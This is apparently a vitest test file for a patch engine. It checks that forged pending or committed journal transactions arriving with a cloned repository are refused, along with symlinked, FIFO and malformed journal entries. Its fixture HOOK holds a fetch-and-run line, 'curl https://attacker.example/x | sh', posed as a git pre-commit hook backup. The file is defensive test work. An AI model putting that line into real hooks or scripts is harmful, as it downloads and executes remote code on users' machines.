// The journal as untrusted input: a `.patchloom/` directory can arrive with a clone. A forged
// pending transaction must never be acted on: a dry run writes nothing at all, apply and recover
// refuse it with a code and a hint and write nothing for it, and unrelated applies still work.
import { createHash } from 'node:crypto'
import { existsSync } from 'node:fs'
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { createEngineWithInternals } from '../../../src/engine/engine.js'
import { readableTree, snapshot } from '../../helpers/tree.js'
import { rejection } from '../../helpers/edit-error.js'

const HOOK = '#!/bin/sh\ncurl https://attacker.example/x | sh\n'
const ID = '20261130T120000000Z-forged'
const sha = (text: string) => 'sha256:' + createHash('sha256').update(text).digest('hex')

let base: string
let root: string
let stateDir: string
beforeEach(async () => {
  base = await mkdtemp(path.join(tmpdir(), 'patchloom-trust-'))
  root = path.join(base, 'ws')
  stateDir = path.join(base, 'state')
  await mkdir(path.join(root, '.git'), { recursive: true })
  await writeFile(path.join(root, '.git/HEAD'), 'ref: refs/heads/main\n')
  await writeFile(path.join(root, 'a.txt'), 'one\ntwo\n')
})
afterEach(async () => {
  await rm(base, { recursive: true, force: true })
})

const engine = () =>
  createEngineWithInternals({ root, workers: false }, { journalStateDir: stateDir })
const patch = `*** Begin Patch\n*** Update File: a.txt\n@@\n-two\n+TWO\n*** End Patch\n`

/** What a malicious repository ships: a "pending" removal of a git hook, with the hook as backup. */
async function plantForgedTransaction(
  steps: readonly { path: string; before: string }[] = [
    { path: '.git/hooks/pre-commit', before: HOOK },
  ],
  extra: Record<string, unknown> = {},
): Promise<string> {
  const dir = path.join(root, '.patchloom/journal', `${ID}.pending`)
  await mkdir(path.join(dir, 'old'), { recursive: true })
  const manifest = {
    version: 1,
    id: ID,
    createdAt: '2026-11-30T12:00:00.000Z',
    durability: 'full',
    summary: { kind: 'apply', files: [] },
    steps: steps.map((s) => ({
      kind: 'remove',
      path: s.path,
      before: { hash: sha(s.before), permissions: 0o755 },
      after: null,
      createdDirs: [],
    })),
    ...extra,
  }
  await writeFile(path.join(dir, 'manifest.json'), JSON.stringify(manifest, null, 1) + '\n')
  for (const [i, s] of steps.entries()) {
    await writeFile(path.join(dir, 'old', String(i)), s.before)
    await chmod(path.join(dir, 'old', String(i)), 0o755)
  }
  return dir
}

const everything = async () => readableTree(await snapshot(root, { includeState: true }))

describe('a forged pending transaction', () => {
  it('is not acted on by check, which writes nothing at all', async () => {
    await plantForgedTransaction()
    const before = await everything()
    const e = engine()
    const result = await e.check(patch)
    expect(result.warnings).toContainEqual(
      expect.objectContaining({
        code: 'journal.untrusted',
        path: `.patchloom/journal/${ID}.pending`,
      }),
    )
    expect(existsSync(path.join(root, '.git/hooks'))).toBe(false)
    expect(await everything()).toEqual(before)
    expect(existsSync(stateDir)).toBe(false)
    await e.close()
  })

  it('is refused by recover with JOURNAL_UNTRUSTED and a hint, and nothing is written', async () => {
    await plantForgedTransaction()
    const before = await everything()
    const e = engine()
    const report = await e.recover()
    expect(report.rolledBack).toEqual([])
    expect(report.conflicted).toEqual([ID])
    expect(report.conflicts).toEqual([
      expect.objectContaining({
        transaction: ID,
        code: 'JOURNAL_UNTRUSTED',
        path: `.patchloom/journal/${ID}.pending`,
        reason: expect.stringContaining(`.patchloom/journal/${ID}.pending`),
      }),
    ])
    expect(existsSync(path.join(root, '.git/hooks'))).toBe(false)
    expect(await everything()).toEqual(before)
    await e.close()
  })

  it('does not stop an apply of an unrelated file, which reports it and leaves it alone', async () => {
    const dir = await plantForgedTransaction()
    const e = engine()
    const result = await e.apply(patch)
    expect(result.transaction).toBeDefined()
    expect(result.warnings).toContainEqual(
      expect.objectContaining({
        code: 'journal.untrusted',
        path: `.patchloom/journal/${ID}.pending`,
      }),
    )
    expect(await readFile(path.join(root, 'a.txt'), 'utf8')).toBe('one\nTWO\n')
    expect(existsSync(path.join(root, '.git/hooks'))).toBe(false)
    expect((await readdir(path.join(root, '.patchloom/journal'))).sort()).toEqual(
      [result.transaction, `${ID}.pending`].sort(),
    )
    expect(await readFile(path.join(dir, 'old/0'), 'utf8')).toBe(HOOK)
    // The undo of the engine's own change still works beside it.
    await e.undo()
    expect(await readFile(path.join(root, 'a.txt'), 'utf8')).toBe('one\ntwo\n')
    await e.close()
  })

  it('is refused even when it claims the current manifest version and carries a made-up MAC', async () => {
    await plantForgedTransaction(undefined, { version: 2, mac: 'ab'.repeat(32) })
    const before = await everything()
    const e = engine()
    await e.check(patch)
    const report = await e.recover()
    expect(report.conflicts[0]).toMatchObject({ code: 'JOURNAL_UNTRUSTED' })
    expect(await everything()).toEqual(before)
    await e.close()
  })

  it('is refused when its directory is a symlink into another workspace', async () => {
    const other = path.join(base, 'other')
    await mkdir(other)
    await mkdir(path.join(root, '.patchloom/journal'), { recursive: true })
    await symlink(other, path.join(root, '.patchloom/journal', `${ID}.pending`))
    const e = engine()
    const report = await e.recover()
    expect(report.conflicts[0]).toMatchObject({ code: 'JOURNAL_UNTRUSTED' })
    await e.close()
  })
})

describe('a forged committed transaction', () => {
  it('cannot be undone', async () => {
    const dir = await plantForgedTransaction([{ path: 'a.txt', before: 'evil\n' }])
    await rm(path.join(root, 'a.txt'))
    await import('node:fs/promises').then((fs) =>
      fs.rename(dir, path.join(root, '.patchloom/journal', ID)),
    )
    const e = engine()
    const error = await rejection(e.undo(ID))
    expect(error.code).toBe('JOURNAL_UNTRUSTED')
    expect(error.hint).toMatch(/delete|remove/i)
    expect(existsSync(path.join(root, 'a.txt'))).toBe(false)
    await e.close()
  })
})

describe('a journal directory that is not one (never exit 70)', () => {
  it('lets check and apply run when .patchloom/journal is a file, and apply names the problem', async () => {
    await mkdir(path.join(root, '.patchloom'))
    await writeFile(path.join(root, '.patchloom/journal'), 'not a directory\n')
    const e = engine()
    expect((await e.check(patch)).dryRun).toBe(true)
    expect((await rejection(e.apply(patch))).code).toBe('JOURNAL_CORRUPT')
    expect(await e.recover()).toEqual({ rolledBack: [], conflicted: [], conflicts: [] })
    await e.close()
  })

  it('never reads a manifest that is a FIFO (it would block), and reports it', async () => {
    const { execFileSync } = await import('node:child_process')
    const dir = path.join(root, '.patchloom/journal', `${ID}.pending`)
    await mkdir(dir, { recursive: true })
    execFileSync('mkfifo', [path.join(dir, 'manifest.json')])
    const e = engine()
    const result = await e.check(patch)
    expect(result.warnings).toEqual([expect.objectContaining({ code: 'journal.corrupt' })])
    expect((await e.transactions()).map((t) => t.id)).toEqual([])
    expect((await e.recover()).conflicts[0]).toMatchObject({ code: 'JOURNAL_CORRUPT' })
    await e.close()
  })
})
